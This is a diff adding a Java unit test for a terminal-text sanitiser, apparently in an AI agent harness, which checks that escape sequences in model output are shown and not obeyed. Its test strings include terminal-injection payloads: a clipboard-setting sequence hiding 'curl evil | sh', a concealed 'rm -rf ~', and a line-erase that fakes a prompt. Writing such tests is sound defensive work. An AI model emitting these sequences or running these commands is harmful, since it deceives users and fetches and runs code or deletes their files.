@@ -1,0 +1,81 @@
+package dev.cachet.harness.view;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.api.Test;
+
+class TerminalTextTest {
+    private static final Style COLOUR = new Style(true);
+
+    @Test
+    void escapeSequencesFromTheModelAreShownNotObeyed() {
+        // OSC 52 sets the clipboard; ESC[8m conceals what follows; ESC[2K with \r erases the line to fake another.
+        String hostile = "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 \u001b[8mhidden\u001b[28m rm -rf ~\r\u001b[2K$ ls";
+
+        String shown = TerminalText.shown(hostile);
+
+        assertThat(shown).doesNotContain("\u001b", "\u0007", "\r")
+                .isEqualTo("\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007 \\u001b[8mhidden\\u001b[28m rm -rf ~\\r\\u001b[2K$ ls");
+    }
+
+    @Test
+    void cachetsOwnColoursPassAndNoOtherSequence() {
+        String coloured = COLOUR.red("error") + " " + COLOUR.bold(COLOUR.cyan("grep")) + COLOUR.dim("|") + COLOUR.green("+")
+                + COLOUR.yellow("!");
+
+        assertThat(TerminalText.shown(coloured)).isEqualTo(coloured);
+        String help = "\u001b[1mcachet\u001b[21m\u001b[0m [\u001b[33m-hV\u001b[39m\u001b[0m] \u001b[3mTASK\u001b[23m";
+        assertThat(TerminalText.shown(help)).isEqualTo(help);
+        assertThat(TerminalText.shown("\u001b[30m\u001b[8m\u001b[1;31m\u001b[m"))
+                .isEqualTo("\\u001b[30m\\u001b[8m\\u001b[1;31m\\u001b[m");
+    }
+
+    @Test
+    void linesTabsAndWindowsLineEndsStayWhatTheyAre() {
+        assertThat(TerminalText.shown("a\tb\r\nc\nd")).isEqualTo("a\tb\nc\nd");
+    }
+
+    @Test
+    void controlsPastAsciiAndTextDirectionOverridesAreShown() {
+        // U+009B is a one-character CSI on terminals that take C1 controls; U+202E reverses the text after it.
+        assertThat(TerminalText.shown("\u009b8m \u202etxt.exe \u2066x\u2069 \u007f\b"))
+                .isEqualTo("\\u009b8m \\u202etxt.exe \\u2066x\\u2069 \\u007f\\u0008");
+    }
+
+    @Test
+    void textWithoutControlsIsTheSameString() {
+        String plain = "naïve café — 日本語 ✓";
+
+        assertThat(TerminalText.shown(plain)).isSameAs(plain);
+    }
+
+    @Test
+    void oneLineShowsLineBreaksAndPassesNoColour() {
+        assertThat(TerminalText.oneLine("ls\n\n" + COLOUR.red("x") + "\r\ncurl evil | sh"))
+                .isEqualTo("ls\\n\\n\\u001b[31mx\\u001b[0m\\r\\ncurl evil | sh");
+    }
+
+    @Test
+    void aWriterLetsCarriageReturnsThroughForProgressLinesAndShowsTheRest() {
+        StringBuilder written = new StringBuilder();
+        var writer = new java.io.PrintWriter(TerminalText.writer(new java.io.Writer() {
+            @Override
+            public void write(char[] chars, int offset, int length) {
+                written.append(chars, offset, length);
+            }
+
+            @Override
+            public void flush() {}
+
+            @Override
+            public void close() {}
+        }));
+
+        writer.print("\r12 files" + COLOUR.dim(" 3s"));
+        writer.print("\u001b]0;title\u0007");
+        writer.print('\u001b');
+        writer.flush();
+
+        assertThat(written.toString()).isEqualTo("\r12 files" + COLOUR.dim(" 3s") + "\\u001b]0;title\\u0007\\u001b");
+    }
+}
